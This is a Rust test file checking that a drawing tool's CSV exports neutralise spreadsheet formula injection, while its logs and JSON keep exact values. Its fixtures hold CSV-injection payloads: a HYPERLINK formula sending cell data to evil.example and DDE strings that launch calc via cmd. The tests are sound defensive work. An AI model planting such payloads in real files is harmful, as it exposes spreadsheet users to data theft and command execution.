//! Outputs safe for spreadsheets (issue 10, item 6): hostile enterprise and officer names reach
//! `targets.csv`, `teams.csv` (plain and `--excel`) and the published `results/*.csv` only
//! neutralised (OWASP's CSV-injection rule: a cell beginning with `=`, `+`, `-`, `@`, tab or CR
//! gets a leading `'`), while the log and the JSON results keep the exact values.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use common::cli;
use common::dirs::write_csv;
use dualdraw::internals::spreadsheet_safe;

/// Formula payloads, each put in front of an ordinary name so that every name stays distinct.
const HOSTILE: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    // The readers trim cells, so this arrives as `=1+1…`; still a formula, still neutralised.
    "\t=1+1",
];

const DANGEROUS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A hostile copy of `line`'s cells: `cols` get a payload (row `i` picks which); every fifth row
/// is left alone so that ordinary cells are seen too.
fn poison(mut cells: Vec<String>, i: usize, cols: &[usize]) -> Vec<String> {
    if i % 5 != 4 {
        for (k, &c) in cols.iter().enumerate() {
            cells[c] = format!("{}{}", HOSTILE[(i + k) % HOSTILE.len()], cells[c]);
        }
    }
    cells
}

/// Writes the demo's plan (with names and departments public) and hostile copies of its two
/// directories into `dir`; returns the plan's path.
fn hostile_inputs(dir: &Path) -> PathBuf {
    let rewrite = |name: &str, cols: &[usize]| {
        let text = String::from_utf8(common::read_demo(name)).unwrap();
        let header = text.lines().next().unwrap().to_string();
        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .flexible(true)
            .from_reader(text.as_bytes())
            .records()
            .enumerate()
            .map(|(i, r)| {
                let cells = r.unwrap().iter().map(str::to_string).collect();
                poison(cells, i, cols)
            })
            .collect();
        header + "\n" + &write_csv(&rows, false, "\n")
    };
    let plan = String::from_utf8(common::read_demo("plan.toml")).unwrap()
        + "\n[publish]\nofficer_fields = [\"name\", \"department\", \"region\"]\n";
    // targets: 企业名称; officers: 姓名, 所属部门, 执法证号.
    common::write_inputs(
        dir,
        plan,
        rewrite("targets.csv", &[1]),
        rewrite("officers.csv", &[1, 2, 4]),
    )
}

/// The exact (trimmed) values the readers took from the hostile directories.
struct Originals {
    enterprise_name: BTreeMap<String, String>,
    officer: BTreeMap<String, [String; 4]>,
}

fn originals(plan: &Path) -> Originals {
    let inputs = common::load(plan);
    let enterprise_name = inputs
        .targets
        .records()
        .iter()
        .map(|e| (e.id.clone(), e.name.clone()))
        .collect();
    let officer = inputs
        .officers
        .records()
        .iter()
        .map(|o| {
            (
                o.id.clone(),
                [
                    o.name.clone(),
                    o.department.clone(),
                    o.region.clone(),
                    o.cert_no.clone(),
                ],
            )
        })
        .collect();
    Originals {
        enterprise_name,
        officer,
    }
}

/// The rows of a CSV result (header first), BOM removed; asserts the BOM is there iff `excel`.
fn rows(bytes: &[u8], excel: bool) -> Vec<Vec<String>> {
    let bom = "\u{feff}".as_bytes();
    assert_eq!(bytes.starts_with(bom), excel);
    let body = bytes.strip_prefix(bom).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The cell of `row` under column `name`.
fn cell<'a>(head: &[String], row: &'a [String], name: &str) -> &'a str {
    let i = head
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"));
    &row[i]
}

/// No cell begins with a dangerous character.
fn assert_no_formula(table: &[Vec<String>], what: &str) {
    for row in table {
        for c in row {
            assert!(!c.starts_with(DANGEROUS), "{what}: formula cell {c:?}");
        }
    }
}

/// `found` is `original` made safe: `'` + original if it begins with a dangerous character,
/// else `original` itself. Returns whether it was neutralised.
fn assert_safe_copy(found: &str, original: &str, what: &str) -> bool {
    if original.starts_with(DANGEROUS) {
        assert_eq!(found, format!("'{original}"), "{what}");
        true
    } else {
        assert_eq!(found, original, "{what}");
        false
    }
}

/// Checks a targets table; returns how many name cells were neutralised.
fn check_targets(bytes: &[u8], excel: bool, o: &Originals, what: &str) -> usize {
    let t = rows(bytes, excel);
    assert_no_formula(&t, what);
    let (head, body) = t.split_first().unwrap();
    assert!(!body.is_empty(), "{what}: no rows");
    let mut neutralised = 0;
    for row in body {
        let id = cell(head, row, "id");
        let name = &o.enterprise_name[id];
        neutralised += assert_safe_copy(cell(head, row, "name"), name, what) as usize;
    }
    neutralised
}

/// Checks a teams table with the given officer columns (name column header, and whether
/// department/region are shown); returns how many cells were neutralised.
fn check_teams(
    bytes: &[u8],
    excel: bool,
    o: &Originals,
    name_col: &str,
    with_region: bool,
    what: &str,
) -> usize {
    let t = rows(bytes, excel);
    assert_no_formula(&t, what);
    let (head, body) = t.split_first().unwrap();
    assert!(!body.is_empty(), "{what}: no rows");
    let mut neutralised = 0;
    for row in body {
        let e = cell(head, row, "enterprise");
        let ename = &o.enterprise_name[e];
        neutralised += assert_safe_copy(cell(head, row, "enterprise_name"), ename, what) as usize;
        let [name, dept, region, cert] = &o.officer[cell(head, row, "officer_id")];
        neutralised += assert_safe_copy(cell(head, row, name_col), name, what) as usize;
        neutralised += assert_safe_copy(cell(head, row, "department"), dept, what) as usize;
        neutralised += assert_safe_copy(cell(head, row, "cert_no"), cert, what) as usize;
        if with_region {
            assert_safe_copy(cell(head, row, "region"), region, what);
        }
    }
    neutralised
}

#[test]
fn the_function_neutralises_every_formula_lead_and_nothing_else() {
    for lead in DANGEROUS {
        for cell in [
            lead.to_string(),
            format!("{lead}1+1"),
            format!("{lead}天津市滨海通鑫电气设备有限公司"),
        ] {
            assert_eq!(spreadsheet_safe(&cell), format!("'{cell}"), "{cell:?}");
        }
    }
    for h in HOSTILE {
        assert_eq!(spreadsheet_safe(h), format!("'{h}"));
    }
    for plain in [
        "",
        "天津市滨海通鑫电气设备有限公司",
        "无线电管理处",
        "91120116221358137M",
        "TJGX0048",
        "津120100205027",
        "a=b",
        " =1",
        "'=1",
    ] {
        assert_eq!(spreadsheet_safe(plain), plain);
    }
}

#[test]
fn hostile_names_reach_spreadsheets_only_neutralised() {
    let tmp = common::tmp();
    let plan = hostile_inputs(&tmp.path().join("in"));
    let o = originals(&plan);
    // The readers keep the payloads (trimmed): the fixture is hostile indeed.
    assert!(
        o.enterprise_name
            .values()
            .any(|n| n.starts_with("=HYPERLINK("))
            && o.enterprise_name.values().any(|n| n.starts_with('+'))
            && o.enterprise_name.values().any(|n| n.starts_with('@'))
            && o.enterprise_name.values().any(|n| n.starts_with("-2+3"))
            && o.officer
                .values()
                .any(|f| f[0].starts_with('=') && f[1].starts_with('+'))
    );

    // `draw`, plain and --excel: the same draw, the same log, both tables safe.
    let plain = tmp.path().join("plain");
    let excel = tmp.path().join("excel");
    let r = cli::draw(&plan, &plain);
    assert_eq!(cli::code(&r), 0, "{}", cli::show(&r));
    let r = cli::run([
        "draw".as_ref(),
        plan.as_os_str(),
        "--out".as_ref(),
        excel.as_os_str(),
        "--excel".as_ref(),
    ]);
    assert_eq!(cli::code(&r), 0, "{}", cli::show(&r));
    let log = std::fs::read(plain.join("draw.log")).unwrap();
    assert_eq!(log, std::fs::read(excel.join("draw.log")).unwrap());
    let mut neutralised = 0;
    for (dir, xl) in [(&plain, false), (&excel, true)] {
        let what = dir.display().to_string();
        let t = std::fs::read(dir.join("targets.csv")).unwrap();
        neutralised += check_targets(&t, xl, &o, &what);
        let t = std::fs::read(dir.join("teams.csv")).unwrap();
        neutralised += check_teams(&t, xl, &o, "officer_name", false, &what);
    }
    assert!(neutralised > 20, "only {neutralised} hostile cells drawn");

    // The log commits to the exact directories: it verifies against them, and quotes no
    // neutralised value.
    let head = String::from_utf8(std::fs::read(plain.join("draw.head")).unwrap()).unwrap();
    let r = cli::verify(&plain.join("draw.log"), &plan, Some(head.trim()));
    assert_eq!(cli::code(&r), 0, "{}", cli::show(&r));
    let log_text = String::from_utf8(log.clone()).unwrap();
    assert!(!log_text.contains("\"'"), "a neutralised value in the log");

    // `publish`: results/*.csv safe, results/*.json and the log exact.
    let public = tmp.path().join("public");
    let r = cli::run([
        "publish".as_ref(),
        "--plan".as_ref(),
        plan.as_os_str(),
        "--out".as_ref(),
        public.as_os_str(),
        plain.join("draw.log").as_os_str(),
    ]);
    assert_eq!(cli::code(&r), 0, "{}", cli::show(&r));
    // The log as drawn, plus the `publication` line publishing records (SPEC.md §11.1).
    let published = std::fs::read(public.join("draw.log")).unwrap();
    assert!(published.starts_with(&log));
    assert_eq!(
        published[log.len()..]
            .iter()
            .filter(|&&b| b == b'\n')
            .count(),
        1
    );
    let what = "results/targets.csv";
    let t = std::fs::read(public.join(what)).unwrap();
    assert!(check_targets(&t, true, &o, what) > 0);
    let what = "results/teams.csv";
    let t = std::fs::read(public.join(what)).unwrap();
    assert!(check_teams(&t, true, &o, "name", true, what) > 0);

    let json = |name: &str| -> serde_json::Value {
        serde_json::from_slice(&std::fs::read(public.join("results").join(name)).unwrap()).unwrap()
    };
    let mut exact = 0;
    for t in json("targets.json").as_array().unwrap() {
        let id = t["id"].as_str().unwrap();
        assert_eq!(t["name"].as_str().unwrap(), o.enterprise_name[id]);
        exact += o.enterprise_name[id].starts_with(DANGEROUS) as usize;
    }
    for team in json("teams.json").as_array().unwrap() {
        for m in team["members"].as_array().unwrap() {
            let [name, dept, region, cert] = &o.officer[m["id"].as_str().unwrap()];
            assert_eq!(m["name"].as_str().unwrap(), name);
            assert_eq!(m["department"].as_str().unwrap(), dept);
            assert_eq!(m["region"].as_str().unwrap(), region);
            assert_eq!(m["cert_no"].as_str().unwrap(), cert);
            exact += name.starts_with(DANGEROUS) as usize;
        }
    }
    assert!(exact > 0, "no hostile value in the JSON results");
}

#[test]
fn library_tables_are_safe_too() {
    // The same through the library: `Drawn::targets_csv` / `teams_csv`, as an embedder calls them.
    let tmp = common::tmp();
    let plan = hostile_inputs(&tmp.path().join("in"));
    let o = originals(&plan);
    let inputs = common::load(&plan);
    let drawn = dualdraw::Draw::new(&inputs.plan)
        .run(&inputs.targets, &inputs.officers)
        .unwrap();
    for excel in [false, true] {
        let n = check_targets(&drawn.targets_csv(excel), excel, &o, "Drawn::targets_csv");
        assert!(n > 0);
        let t = drawn.teams_csv(&inputs.officers, excel);
        assert!(check_teams(&t, excel, &o, "officer_name", false, "Drawn::teams_csv") > 0);
    }
}
